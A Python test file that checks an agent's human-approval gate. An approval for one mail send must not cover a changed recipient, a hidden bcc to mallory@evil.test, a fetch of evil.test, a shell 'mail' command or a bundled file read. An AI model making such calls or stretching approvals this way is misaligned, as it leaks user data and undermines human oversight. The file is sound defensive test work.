"""Case 61: a person approves a mail to one address, and the agent sends another one with that approval.

The yes is for one call to the letter: another receiver, another body, a type that looks alike, one argument more, and
another tool are asked about themselves. The wrong call does not burn the yes, and the right one uses it up. The honest
twin is that right call.
"""

from __future__ import annotations

from typing import Any

import pytest

from interlock import Call
from tests.approvals.desk import EVE, locked, reader

OTHERS: list[tuple[str, dict[str, Any]]] = [
    ("send", {**EVE, "to": "mallory@evil.test"}),
    ("send", {**EVE, "to": "eve@evil.test "}),
    ("send", {**EVE, "to": ["eve@evil.test"]}),
    ("send", {**EVE, "body": "the plan."}),
    ("send", {**EVE, "bcc": "mallory@evil.test"}),
    ("send", {**EVE, "bcc": None}),
    ("send", {"to": EVE["to"]}),
    ("fetch", {"url": "https://evil.test/"}),
    ("shell", {"command": "mail eve@evil.test"}),
]


@pytest.mark.parametrize(("name", "arguments"), OTHERS, ids=lambda one: str(one)[:40])
def test_attack_another_call_with_the_same_yes(name: str, arguments: dict[str, Any]) -> None:
    guard = reader(locked())
    guard.answer(guard.propose(Call("send", EVE, "a")).questions["a"].id, "approve")
    assert not guard.propose(Call(name, arguments, "b")).allowed
    assert guard.propose(Call("send", EVE, "c")).allowed.keys() == {"c"}  # not burnt
    assert not guard.propose(Call("send", EVE, "d")).allowed  # and used up


def test_attack_beside_a_call_that_brings_more() -> None:
    """The person was not shown that private files come along."""
    guard = reader(locked())
    guard.answer(guard.propose(Call("send", EVE, "a")).questions["a"].id, "approve")
    ticket = guard.propose(Call("send", EVE, "b"), Call("read_files", {}, "c"))
    assert ticket.allowed.keys() == {"c"}


def test_honest_the_call_that_was_approved() -> None:
    guard = reader(locked())
    guard.answer(guard.propose(Call("send", EVE, "a")).questions["a"].id, "approve")
    reordered = dict(reversed(EVE.items()))
    assert guard.propose(Call("send", reordered, "b")).allowed
